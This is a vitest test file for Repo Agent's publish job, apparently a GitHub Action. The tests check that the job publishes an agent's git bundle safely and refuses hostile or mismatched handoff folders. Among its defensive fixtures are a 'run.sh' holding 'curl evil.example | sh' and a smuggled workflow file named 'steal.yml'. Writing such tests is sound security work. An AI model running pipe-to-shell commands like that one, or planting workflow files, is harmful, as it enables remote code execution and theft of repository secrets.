import {
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { DeliveryMode } from "../src/action/admitted-run.js";
import { applyHandoff } from "../src/action/handoff-apply.js";
import { createGit } from "../src/github/git.js";
import { commitHandedOff, writeChangesBundle } from "../src/github/handoff/bundle-write.js";
import type { HandoffManifest } from "../src/github/handoff/manifest.js";
import type { SafeOutputs } from "../src/github/operations/safe-outputs.js";
import type { Trigger } from "../src/github/trigger/types.js";
import { gitPullFiles } from "./fakes/pull-diff.js";
import { publishingStage, REPO } from "./fixtures/github.js";
import {
  AgentJobClone,
  HANDOFF_TOKEN,
  type HandoffStage,
  handoffFolder,
  manifestFor,
  publishJob,
} from "./fixtures/handoff-publish-job.js";

const cleanups: Array<() => unknown> = [];
afterAll(async () => {
  for (const cleanup of cleanups) await cleanup();
});

const LABELS: SafeOutputs = { "add-labels": { allowed: ["bug"], max: 3 } };
const REFUSED = "Nothing was published: the handoff was refused, because";

async function setup(): Promise<HandoffStage> {
  const { fixture, gh, client } = await publishingStage(HANDOFF_TOKEN, cleanups);
  return { fixture, gh, client };
}

function commentOn(number: number, isPullRequest = false, commentId = 11): Trigger {
  return {
    kind: "issue_comment",
    number,
    isPullRequest,
    commentId,
    createdAt: "2026-01-01T00:00:00Z",
    repo: REPO,
    task: "Fix the answer",
    actor: { login: "octocat", type: "User" },
  };
}

/** The agent job done honestly: the answer changed on the start commit, bundled, and its manifest. */
function honestHandoff(
  stage: HandoffStage,
  trigger: Trigger,
  options: {
    start?: string;
    event?: string;
    files?: Record<string, string | null>;
  } & Partial<HandoffManifest> = {},
) {
  const { start: given, event, files, ...overrides } = options;
  const start = given ?? stage.fixture.git(["rev-parse", "HEAD"]);
  const clone = new AgentJobClone(stage);
  const commit = clone.commit([start], files ?? { "src/app.ts": "export const answer = 42;\n" });
  const bundle = join(clone.dir, "..", `bundle-${commit.slice(0, 8)}.bundle`);
  clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
  const manifest = manifestFor(trigger, event ?? "issue_comment", start, {
    changes: { bundle: "changes.bundle", commit },
    ...overrides,
  });
  return { start, commit, clone, bundle, manifest };
}

/** What a reader can check that nothing else changed: origin's refs, the workspace's git state. */
function gitState(stage: HandoffStage) {
  const { fixture } = stage;
  return {
    origin: fixture.git(["for-each-ref", "--format=%(refname) %(objectname)"], fixture.origin),
    head: fixture.git(["rev-parse", "HEAD"]),
    branch: fixture.git(["symbolic-ref", "--quiet", "HEAD"]),
    refs: fixture.git(["for-each-ref", "--format=%(refname) %(objectname)"]),
    status: fixture.git(["status", "--porcelain"]),
    index: readFileSync(join(fixture.workspace, ".git", "index")).toString("base64"),
  };
}

/** The publish job on `folder`: its io, its final comment, and every write GitHub got. */
async function runPublishJob(
  stage: HandoffStage,
  trigger: Trigger,
  folder: string,
  options: {
    eventName?: string;
    safeOutputs?: SafeOutputs;
    deliverAs?: DeliveryMode;
    outputSchema?: unknown;
    sha?: string;
  } = {},
) {
  const before = gitState(stage);
  const config = stage.fixture.config();
  const { run, io } = publishJob(stage, trigger, {
    folder,
    eventName: options.eventName ?? "issue_comment",
    ...options,
  });
  const requestsBefore = stage.gh.requests.length;
  await applyHandoff(run, () => {});
  const writes = stage.gh.requests
    .slice(requestsBefore)
    .filter((request) => request.method !== "GET" && request.method !== "HEAD");
  return {
    io,
    before,
    after: gitState(stage),
    configBefore: config,
    configAfter: stage.fixture.config(),
    comment: stage.gh.state.comments.at(-1)?.body ?? "",
    writes,
  };
}

/** Only the tracking comment was written: its POST and its updates. */
function onlyTheTrackingComment(writes: Array<{ method: string; path: string }>): void {
  expect(writes.length).toBeGreaterThan(0);
  for (const write of writes)
    expect(`${write.method} ${write.path}`).toMatch(
      /^(POST \/repos\/octo-org\/octo-repo\/issues\/\d+\/comments|PATCH \/repos\/octo-org\/octo-repo\/issues\/comments\/\d+)$/,
    );
}

/** The run refused the handoff for `reason`, said it, and published nothing. */
async function expectRefused(
  stage: HandoffStage,
  trigger: Trigger,
  folder: string,
  reason: string | RegExp,
  options: Parameters<typeof runPublishJob>[3] = {},
) {
  const result = await runPublishJob(stage, trigger, folder, options);
  const { io, comment, writes, before, after } = result;
  expect(io.failed).toHaveLength(1);
  expect(io.failed[0]).toContain(REFUSED);
  expect(io.failed[0]).toMatch(reason);
  expect(io.errors.join("\n")).toMatch(reason);
  expect(io.outputs.get("conclusion")).toBe("error");
  expect(io.outputs.get("published")).toBe("none");
  expect(comment).toContain(REFUSED);
  onlyTheTrackingComment(writes);
  expect(after).toEqual(before);
  expect(result.configAfter).toBe(result.configBefore);
  return result;
}

describe.concurrent("the publish job (apply-handoff) publishes a handoff that passes every check", () => {
  it("opens the pull request from the agent job's tree, applies the operations, and leaves the workspace alone", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle, start, commit, clone } = honestHandoff(stage, trigger, {
      operations: [{ type: "add-labels", args: { labels: ["bug"] } }],
    });
    const folder = handoffFolder(stage, manifest, bundle);

    const { io, comment, before, after, configBefore, configAfter } = await runPublishJob(
      stage,
      trigger,
      folder,
      { safeOutputs: LABELS },
    );

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("conclusion")).toBe("success");
    expect(io.outputs.get("published")).toBe("pull-request");
    const branch = io.outputs.get("branch") ?? "";
    const pushed = stage.fixture.originSha(branch) ?? "";
    // The agent job's tree on the start commit, committed by the action (not the agent's commit).
    expect(stage.fixture.git(["rev-parse", `${pushed}^{tree}`], stage.fixture.origin)).toBe(
      clone.git(["rev-parse", `${commit}^{tree}`]),
    );
    expect(stage.fixture.git(["rev-parse", `${pushed}^`], stage.fixture.origin)).toBe(start);
    expect(pushed).not.toBe(commit);
    expect([...stage.gh.state.pulls.values()]).toHaveLength(1);
    expect(stage.gh.state.issues.get(issue.number)?.labels).toEqual(["bug"]);
    expect(comment).toContain("I changed the answer to 42.");
    // The agent job's usage, shown and in the outputs (check 12).
    expect(io.outputs.get("steps")).toBe("3");
    expect(io.outputs.get("input-tokens")).toBe("1200");
    expect(io.outputs.get("output-tokens")).toBe("300");
    // The workspace's HEAD, index, refs and files are as they were, and its credential is back.
    expect(after.head).toBe(before.head);
    expect(after.index).toBe(before.index);
    expect(after.refs).toBe(before.refs);
    expect(after.status).toBe(before.status);
    expect(configAfter).toBe(configBefore);
  });

  it("gives a patch in the comment and pushes nothing in comment mode", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger);
    const folder = handoffFolder(stage, manifest, bundle);

    const { io, comment, before, after } = await runPublishJob(stage, trigger, folder, {
      deliverAs: "comment",
    });

    expect(io.outputs.get("published")).toBe("patch");
    expect(comment).toContain("+export const answer = 42;");
    expect(after.origin).toBe(before.origin);
    expect(stage.gh.state.pulls.size).toBe(0);
  });

  it("pushes onto a pull request's head, fetching the start commit the workspace lacks", async () => {
    const stage = await setup();
    stage.fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
    const head = stage.fixture.pushAsSomeoneElse("feature", { "feature.txt": "work\n" });
    const pull = stage.gh.addPull({ title: "Feature", headRef: "feature", headSha: head });
    stage.fixture.git(["update-ref", `refs/pull/${pull.number}/head`, head], stage.fixture.origin);
    const trigger = commentOn(pull.number, true);
    const { manifest, bundle } = honestHandoff(stage, trigger, { start: head });
    const folder = handoffFolder(stage, manifest, bundle);

    const { io, after, before } = await runPublishJob(stage, trigger, folder);

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("push");
    const pushed = stage.fixture.originSha("feature") ?? "";
    expect(stage.fixture.git(["rev-parse", `${pushed}^`], stage.fixture.origin)).toBe(head);
    expect(stage.fixture.git(["show", `${pushed}:src/app.ts`], stage.fixture.origin)).toContain("42");
    expect(after.head).toBe(before.head);
    expect(after.refs).toBe(before.refs);
  });

  it("opens a draft pull request and fails the job when the agent job did not finish (check 8)", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger, {
      conclusion: "max_steps",
      response: "I ran out of steps.",
    });
    const folder = handoffFolder(stage, manifest, bundle);

    const { io } = await runPublishJob(stage, trigger, folder);

    expect(io.outputs.get("conclusion")).toBe("max_steps");
    expect(io.outputs.get("published")).toBe("pull-request");
    const [pr] = [...stage.gh.state.pulls.values()];
    expect(pr?.draft).toBe(true);
    expect(pr?.title).toContain("WIP");
    expect(io.failed.join("\n")).toContain("max_steps");
  });

  it("asks the operations again of its own safe-outputs: one not allowed there is refused, the rest go on (check 10)", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger, {
      operations: [
        { type: "add-labels", args: { labels: ["bug"] } },
        { type: "close-issue", args: { reason: "completed" } },
      ],
    });
    const folder = handoffFolder(stage, manifest, bundle);

    const { io } = await runPublishJob(stage, trigger, folder, { safeOutputs: LABELS });

    expect(io.outputs.get("published")).toBe("pull-request");
    const operations = JSON.parse(io.outputs.get("operations") ?? "[]");
    expect(operations).toMatchObject([
      { type: "add-labels", status: "applied" },
      { type: "close-issue", status: "refused" },
    ]);
    expect(stage.gh.state.issues.get(issue.number)?.state).toBe("open");
    expect(stage.gh.state.issues.get(issue.number)?.labels).toEqual(["bug"]);
  });

  it("answers with no changes, and passes on a structured result its schema accepts (check 11)", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "What is the answer?" });
    const trigger = commentOn(issue.number);
    const start = stage.fixture.git(["rev-parse", "HEAD"]);
    const manifest = manifestFor(trigger, "issue_comment", start, {
      response: "The answer is 41.",
      structuredOutput: '{"answer": 41}',
    });
    const folder = handoffFolder(stage, manifest);
    const schema = { type: "object", properties: { answer: { type: "integer" } }, required: ["answer"] };

    const { io, comment } = await runPublishJob(stage, trigger, folder, { outputSchema: schema });

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("none");
    expect(io.outputs.get("structured-output")).toBe('{"answer":41}');
    expect(comment).toContain("The answer is 41.");
  });

  it("leaves review comments out, saying so, when its own mode is not review (check 9)", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger, {
      review: { comments: [{ path: "src/app.ts", line: 1, body: "This is wrong." }] },
    });
    const folder = handoffFolder(stage, manifest, bundle);

    const { io, comment } = await runPublishJob(stage, trigger, folder);

    expect(io.outputs.get("published")).toBe("pull-request");
    expect(stage.gh.state.reviews).toHaveLength(0);
    expect(comment).toContain("review comment was not posted");
  });

  it("never reads the requester from the manifest: another login there changes nothing (check 6)", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger);
    manifest.trigger.requester = "the-admin";
    const folder = handoffFolder(stage, manifest, bundle);

    const { io, writes } = await runPublishJob(stage, trigger, folder);

    expect(io.outputs.get("published")).toBe("pull-request");
    expect(JSON.stringify(writes.map((write) => write.body))).not.toContain("the-admin");
  });
});

describe.concurrent("the publish job refuses a hostile folder, publishing nothing (checks 1 and 2)", () => {
  async function honestFolder() {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const handoff = honestHandoff(stage, trigger);
    return { stage, trigger, ...handoff, folder: handoffFolder(stage, handoff.manifest, handoff.bundle) };
  }

  it("refuses a folder that is a symlink", async () => {
    const { stage, trigger, folder } = await honestFolder();
    const link = `${folder}-link`;
    symlinkSync(folder, link);
    await expectRefused(stage, trigger, link, /the handoff folder .* is a symlink/);
  });

  it("refuses a manifest that is a symlink", async () => {
    const { stage, trigger, folder } = await honestFolder();
    const elsewhere = join(stage.fixture.root, "elsewhere.json");
    writeFileSync(elsewhere, readFileSync(join(folder, "handoff.json")));
    rmSync(join(folder, "handoff.json"));
    symlinkSync(elsewhere, join(folder, "handoff.json"));
    await expectRefused(stage, trigger, folder, /handoff\.json is a symlink/);
  });

  it("refuses a folder holding anything but the manifest and the bundle", async () => {
    const { stage, trigger, folder } = await honestFolder();
    writeFileSync(join(folder, "run.sh"), "curl evil.example | sh\n");
    await expectRefused(
      stage,
      trigger,
      folder,
      /holds "run\.sh", where only handoff\.json and changes\.bundle belong/,
    );
  });

  it("refuses a bundle that is a folder", async () => {
    const { stage, trigger, folder } = await honestFolder();
    rmSync(join(folder, "changes.bundle"));
    mkdirSync(join(folder, "changes.bundle"));
    await expectRefused(stage, trigger, folder, /changes\.bundle is not a regular file/);
  });

  it("refuses a manifest larger than its bound", async () => {
    const { stage, trigger, folder, manifest } = await honestFolder();
    const huge = JSON.stringify({ ...manifest, response: "x".repeat(4 * 1024 * 1024) });
    writeFileSync(join(folder, "handoff.json"), huge);
    await expectRefused(stage, trigger, folder, /handoff\.json is \d+ bytes, more than the 4194304/);
  });

  it("refuses a manifest of another format, one that is not JSON, and one with a field of its own", async () => {
    const { stage, trigger, manifest, bundle } = await honestFolder();
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, JSON.stringify({ ...manifest, format: 2 }), bundle),
      /handoff\.json has format 2, but this version of Repo Agent reads format 1/,
    );
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, "{not json", bundle),
      /handoff\.json is not JSON/,
    );
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, JSON.stringify({ ...manifest, token: "ghs_x" }), bundle),
      /handoff\.json: \/token/,
    );
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, JSON.stringify({ ...manifest, conclusion: "skipped" }), bundle),
      /handoff\.json: \/conclusion/,
    );
  });

  it("refuses a bundle the manifest does not name, and changes without a bundle", async () => {
    const { stage, trigger, manifest, bundle } = await honestFolder();
    const { changes: _changes, ...unchanged } = manifest;
    await expectRefused(stage, trigger, handoffFolder(stage, unchanged, bundle), /says nothing changed/);
    await expectRefused(stage, trigger, handoffFolder(stage, manifest), /has no changes\.bundle/);
  });

  it("refuses a folder that is not there", async () => {
    const { stage, trigger } = await honestFolder();
    await expectRefused(stage, trigger, join(stage.fixture.root, "never-downloaded"), /does not exist/);
  });
});

describe.concurrent("the publish job refuses a handoff of another run, trigger or start (checks 3 to 5)", () => {
  it("refuses a manifest of another workflow run", async () => {
    const stage = await setup();
    const trigger = commentOn(stage.gh.addIssue({ title: "Bug" }).number);
    const { manifest, bundle } = honestHandoff(stage, trigger, { runId: "1111" });
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, manifest, bundle),
      /it comes from workflow run 1111, not from this one \(4242\)/,
    );
  });

  it("refuses a manifest of another event, comment, issue or repository", async () => {
    const stage = await setup();
    const number = stage.gh.addIssue({ title: "Bug" }).number;
    const trigger = commentOn(number);
    const { manifest, bundle } = honestHandoff(stage, trigger);
    const other = (changes: Partial<HandoffManifest["trigger"]>, top: Partial<HandoffManifest> = {}) =>
      handoffFolder(stage, { ...manifest, ...top, trigger: { ...manifest.trigger, ...changes } }, bundle);
    await expectRefused(
      stage,
      trigger,
      other({ event: "pull_request_target" }),
      /ran for the event "pull_request_target"/,
    );
    await expectRefused(stage, trigger, other({ commentId: 12 }), /has commentId 12, this job's 11/);
    await expectRefused(
      stage,
      trigger,
      other({ number: number + 1 }),
      new RegExp(`has number ${number + 1}`),
    );
    await expectRefused(
      stage,
      trigger,
      other({ kind: "issue" }),
      /trigger was "issue", this job's is "issue_comment"/,
    );
    await expectRefused(stage, trigger, other({ repo: "someone/else" }), /trigger was in someone\/else/);
    await expectRefused(stage, trigger, other({}, { repository: "someone/else" }), /worked on someone\/else/);
  });

  it("refuses a start commit other than the one its event names", async () => {
    const stage = await setup();
    const trigger = commentOn(stage.gh.addIssue({ title: "Bug" }).number);
    const start = stage.fixture.git(["rev-parse", "HEAD"]);
    const later = stage.fixture.pushAsSomeoneElse("main", { "later.txt": "later\n" });
    const { manifest, bundle } = honestHandoff(stage, trigger, { start: later });
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, manifest, bundle),
      `the agent job started from ${later}, but the commit this job's event names is ${start}`,
      { sha: start },
    );
  });

  it("refuses when the pull request's head moved since the agent job started", async () => {
    const stage = await setup();
    stage.fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
    const head = stage.fixture.pushAsSomeoneElse("feature", { "feature.txt": "work\n" });
    const pull = stage.gh.addPull({ title: "Feature", headRef: "feature", headSha: head });
    const trigger = commentOn(pull.number, true);
    const { manifest, bundle } = honestHandoff(stage, trigger, { start: head });
    const moved = stage.fixture.pushAsSomeoneElse("feature", { "later.txt": "later\n" });
    stage.gh.updatePullHead(pull.number);
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, manifest, bundle),
      `the agent job started from ${head}, but the commit this job's event names is ${moved}`,
    );
  });
});

describe.concurrent("the publish job refuses changes that are not one commit on the start (check 7)", () => {
  async function stageWithClone() {
    const stage = await setup();
    const trigger = commentOn(stage.gh.addIssue({ title: "Bug" }).number);
    const start = stage.fixture.git(["rev-parse", "HEAD"]);
    const clone = new AgentJobClone(stage);
    const bundleAt = (name: string) => join(clone.dir, "..", `${name}-${Date.now()}.bundle`);
    const folderFor = (bundle: string, commit: string) =>
      handoffFolder(
        stage,
        manifestFor(trigger, "issue_comment", start, { changes: { bundle: "changes.bundle", commit } }),
        bundle,
      );
    return { stage, trigger, start, clone, bundleAt, folderFor };
  }

  it("refuses a bundle based on another commit", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const other = clone.commit([start], { "other.txt": "other\n" });
    const commit = clone.commit([other], { "src/app.ts": "export const answer = 42;\n" });
    const bundle = bundleAt("other-base");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [other]);
    await expectRefused(
      stage,
      trigger,
      folderFor(bundle, commit),
      `the bundle is based on ${other}, not on the start commit ${start}`,
    );
  });

  it("refuses two commits on the start: the last one's parent is not the start", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const first = clone.commit([start], { "other.txt": "other\n" });
    const commit = clone.commit([first], { "src/app.ts": "export const answer = 42;\n" });
    const bundle = bundleAt("two-commits");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
    await expectRefused(
      stage,
      trigger,
      folderFor(bundle, commit),
      `the bundle's commit has the parent ${first}, where it must have exactly one, the start commit ${start}`,
    );
  });

  it("refuses a merge commit, whose second parent is not the start", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const side = clone.commit([start], { "side.txt": "side\n" });
    const commit = clone.commit([start, side], { "src/app.ts": "export const answer = 42;\n" });
    const bundle = bundleAt("merge");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
    await expectRefused(stage, trigger, folderFor(bundle, commit), /the bundle's commit has 2 parents/);
  });

  it("refuses a bundle of two refs", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const commit = clone.commit([start], { "src/app.ts": "export const answer = 42;\n" });
    const bundle = bundleAt("two-refs");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit, "refs/heads/main": commit }, [start]);
    await expectRefused(stage, trigger, folderFor(bundle, commit), /the bundle holds 2 refs/);
  });

  it("refuses a bundle whose ref is not the commit the manifest names", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const named = clone.commit([start], { "src/app.ts": "export const answer = 42;\n" });
    const commit = clone.commit([start], { "src/app.ts": "export const answer = 666;\n" });
    const bundle = bundleAt("other-ref");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
    await expectRefused(stage, trigger, folderFor(bundle, named), `the bundle's ref points at ${commit}`);
  });

  it("refuses any change under .github/workflows/, naming it", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const commit = clone.commit([start], {
      "src/app.ts": "export const answer = 42;\n",
      ".github/workflows/steal.yml": "on: push\njobs: {}\n",
    });
    const bundle = bundleAt("workflow");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
    await expectRefused(
      stage,
      trigger,
      folderFor(bundle, commit),
      /it changes ".github\/workflows\/steal.yml" under .github\/workflows\//,
    );
  });

  it("refuses a file over 100 MB", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const commit = clone.commit([start], { "big.bin": "\0".repeat(100 * 1024 * 1024 + 1) });
    const bundle = bundleAt("big");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
    await expectRefused(stage, trigger, folderFor(bundle, commit), /it holds "big.bin", over the 100 MB/);
  });

  it("refuses a bundle whose pack git will not take", async () => {
    const { stage, trigger, start, clone, bundleAt, folderFor } = await stageWithClone();
    const commit = clone.commit([start], { "src/app.ts": "export const answer = 42;\n" });
    const bundle = bundleAt("broken");
    clone.bundle(bundle, { "refs/repo-agent/handoff": commit }, [start]);
    const bytes = readFileSync(bundle);
    const headerEnd = bytes.indexOf("\n\n") + 2;
    writeFileSync(bundle, Buffer.concat([bytes.subarray(0, headerEnd), Buffer.from("PACK but not really")]));
    await expectRefused(stage, trigger, folderFor(bundle, commit), /git refused the bundle/);
  });

  it("refuses a file that is not a bundle", async () => {
    const { stage, trigger, start, folderFor } = await stageWithClone();
    const file = join(stage.fixture.root, "not-a-bundle");
    writeFileSync(file, "#!/bin/sh\necho hi\n");
    await expectRefused(
      stage,
      trigger,
      folderFor(file, start),
      /the bundle has no header|does not start with/,
    );
  });
});

describe.concurrent("the publish job refuses a structured result its own schema does not accept (check 11)", () => {
  it("refuses the whole handoff before anything is published", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "Bug" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger, {
      structuredOutput: '{"answer":"forty-two"}',
      operations: [{ type: "add-labels", args: { labels: ["bug"] } }],
    });
    const schema = { type: "object", properties: { answer: { type: "integer" } } };
    await expectRefused(
      stage,
      trigger,
      handoffFolder(stage, manifest, bundle),
      /its structured result does not satisfy this job's output-schema \(\/answer/,
      { outputSchema: schema, safeOutputs: LABELS },
    );
    expect(stage.gh.state.issues.get(issue.number)?.labels).toEqual([]);
  });
});

describe("a private scratch folder", () => {
  it("is gone after the run", async () => {
    const stage = await setup();
    const trigger = commentOn(stage.gh.addIssue({ title: "Bug" }).number);
    const { manifest, bundle } = honestHandoff(stage, trigger);
    await runPublishJob(stage, trigger, handoffFolder(stage, manifest, bundle));
    const left = readdirSync(stage.fixture.runnerTemp).filter((name) =>
      name.startsWith("repo-agent-handoff-"),
    );
    expect(left).toEqual([]);
  });
});

describe.concurrent("the publish job on pull requests: reviews and forks", () => {
  /** A pull request whose head adds a line to src/app.ts, in this repository or a fork's. */
  function openPull(stage: HandoffStage, options: { fork?: boolean } = {}) {
    const { fixture, gh } = stage;
    const other = join(fixture.root, `contributor-${Date.now()}`);
    fixture.git(["clone", "--quiet", fixture.origin, other], fixture.root);
    fixture.write("src/app.ts", "export const answer = 41;\nexport const question = '?';\n", other);
    fixture.git(["commit", "--quiet", "-am", "Ask the question"], other);
    const head = fixture.git(["rev-parse", "HEAD"], other);
    // A fork's head reaches this repository only as GitHub keeps it: refs/pull/N/head.
    const branchRef = options.fork ? "refs/fork/feature" : "refs/heads/feature";
    fixture.git(["push", "--quiet", "origin", `HEAD:${branchRef}`], other);
    const files = gitPullFiles(fixture.origin, "main", head);
    const pull = gh.addPull({
      title: "Ask the question",
      headRef: "feature",
      headSha: head,
      ...(options.fork ? { headRepo: "contributor/octo-repo", files } : {}),
      user: { login: "contributor", type: "User" },
    });
    fixture.git(["update-ref", `refs/pull/${pull.number}/head`, head], fixture.origin);
    return { pull, head };
  }

  function pullRequestEvent(number: number, headSha: string): Trigger {
    return {
      kind: "pull_request",
      action: "opened",
      number,
      isPullRequest: true,
      headSha,
      headIsDefaultBranch: false,
      target: true,
      repo: REPO,
      task: "Review this pull request",
    };
  }

  it("posts the agent job's review comments made again on its own read of the pull request (check 9)", async () => {
    const stage = await setup();
    const { pull, head } = openPull(stage, { fork: true });
    const trigger = pullRequestEvent(pull.number, head);
    const start = head;
    const manifest = manifestFor(trigger, "pull_request_target", start, {
      response: "One question.",
      review: {
        comments: [
          { path: "src/app.ts", line: 2, body: "What is the question?" },
          { path: "src/app.ts", line: 99, body: "A line that is not there." },
        ],
      },
    });
    const { io, comment, before, after } = await runPublishJob(
      stage,
      trigger,
      handoffFolder(stage, manifest),
      {
        eventName: "pull_request_target",
        deliverAs: "review",
      },
    );

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("review");
    expect(stage.gh.state.reviews).toHaveLength(1);
    expect(stage.gh.state.reviewComments.map((c) => [c.path, c.line, c.body])).toEqual([
      ["src/app.ts", 2, "What is the question?"],
    ]);
    expect(comment).toContain("src/app.ts line 99");
    expect(after.origin).toBe(before.origin);
  });

  it("turns a fork's changes into suggestions and a patch, pushing nothing", async () => {
    const stage = await setup();
    const { pull, head } = openPull(stage, { fork: true });
    const trigger = commentOn(pull.number, true);
    const { manifest, bundle } = honestHandoff(stage, trigger, {
      start: head,
      files: {
        "src/app.ts": "export const answer = 41;\nexport const question = 'why?';\n",
        "NEW.md": "# New\n",
      },
    });

    const { io, comment, before, after } = await runPublishJob(
      stage,
      trigger,
      handoffFolder(stage, manifest, bundle),
    );

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("review");
    expect(stage.gh.state.reviews).toHaveLength(1);
    const [suggestion] = stage.gh.state.reviewComments;
    expect(suggestion).toMatchObject({ path: "src/app.ts", line: 2 });
    expect(suggestion?.body).toContain("```suggestion\nexport const question = 'why?';\n```");
    expect(comment).toContain("+# New");
    expect(after.origin).toBe(before.origin);
    expect(stage.gh.state.pulls.get(pull.number)?.head.sha).toBe(head);
  });

  it("applies a bundle written by the agent job's own code", async () => {
    const stage = await setup();
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const start = stage.fixture.git(["rev-parse", "HEAD"]);
    const clone = new AgentJobClone(stage);
    stage.fixture.write("src/app.ts", "export const answer = 42;\n", clone.dir);
    clone.git(["add", "--all"]);
    const tree = clone.git(["write-tree"]);
    const git = createGit(clone.dir, { env: stage.fixture.env });
    const commit = await commitHandedOff(git, tree, start);
    if (!commit.ok || !commit.value) throw new Error("no commit");
    const dir = join(stage.fixture.root, `written-${Date.now()}`);
    mkdirSync(dir);
    const written = await writeChangesBundle(git, dir, commit.value, start);
    expect(written.ok).toBe(true);
    const manifest = manifestFor(trigger, "issue_comment", start, {
      changes: { bundle: "changes.bundle", commit: commit.value },
    });

    const { io } = await runPublishJob(
      stage,
      trigger,
      handoffFolder(stage, manifest, join(dir, "changes.bundle")),
    );

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("pull-request");
  });
});

describe.concurrent("a shallow checkout, as actions/checkout makes by default", () => {
  /** The workspace made what `fetch-depth: 1` leaves: origin's main tip only, its parent missing. */
  function makeShallow(stage: HandoffStage): void {
    const { fixture } = stage;
    const shallow = join(fixture.root, "shallow");
    fixture.git(["clone", "--quiet", "--depth", "1", `file://${fixture.origin}`, shallow], fixture.root);
    rmSync(join(fixture.workspace, ".git"), { recursive: true, force: true });
    renameSync(join(shallow, ".git"), join(fixture.workspace, ".git"));
    fixture.git(["remote", "set-url", "origin", fixture.origin]);
    fixture.git(["reset", "--quiet", "--hard"]);
    fixture.persistCredentialV5(HANDOFF_TOKEN);
    expect(fixture.git(["rev-parse", "--is-shallow-repository"])).toBe("true");
  }

  it("opens a pull request from the private repository all the same", async () => {
    const stage = await setup();
    stage.fixture.pushAsSomeoneElse("main", { "later.txt": "later\n" });
    makeShallow(stage);
    const issue = stage.gh.addIssue({ title: "The answer is wrong" });
    const trigger = commentOn(issue.number);
    const { manifest, bundle } = honestHandoff(stage, trigger);

    const { io } = await runPublishJob(stage, trigger, handoffFolder(stage, manifest, bundle));

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("pull-request");
  });

  it("fetches a pull request's head branched from history it lacks, and pushes onto it", async () => {
    const stage = await setup();
    const { fixture } = stage;
    fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
    const head = fixture.pushAsSomeoneElse("feature", { "feature.txt": "work\n" });
    fixture.pushAsSomeoneElse("main", { "later.txt": "later\n" });
    makeShallow(stage);
    const pull = stage.gh.addPull({ title: "Feature", headRef: "feature", headSha: head });
    fixture.git(["update-ref", `refs/pull/${pull.number}/head`, head], fixture.origin);
    const trigger = commentOn(pull.number, true);
    const { manifest, bundle } = honestHandoff(stage, trigger, { start: head });

    const { io } = await runPublishJob(stage, trigger, handoffFolder(stage, manifest, bundle));

    expect(io.failed).toEqual([]);
    expect(io.outputs.get("published")).toBe("push");
    expect(fixture.git(["rev-parse", "feature^"], fixture.origin)).toBe(head);
  });
});
